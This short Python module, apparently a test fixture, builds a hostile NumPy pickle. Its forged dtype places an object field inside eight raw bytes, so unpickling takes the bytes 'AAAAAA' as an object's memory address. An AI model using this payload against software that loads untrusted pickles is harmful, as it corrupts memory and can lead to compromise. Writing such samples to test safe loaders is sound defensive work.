"""An array whose pickle makes NumPy take eight bytes of the file for the address of an object."""

from typing import Any

import numpy as np


class _Reduced:
    def __init__(self, *reduced: Any) -> None:
        self._reduced = reduced

    def __reduce__(self) -> tuple[Any, ...]:
        return self._reduced


_OBJECT_IN_BYTES = _Reduced(np.dtype, ("V8", False, True), (3, "|", None, ("a",), {"a": (np.dtype("O"), 0)}, 8, 1, 0))
_RECONSTRUCT = np.empty(0).__reduce__()[0]

HOSTILE_ARRAY = _Reduced(
    _RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, (1,), _OBJECT_IN_BYTES, False, b"\x41\x41\x41\x41\x41\x41\0\0")
)
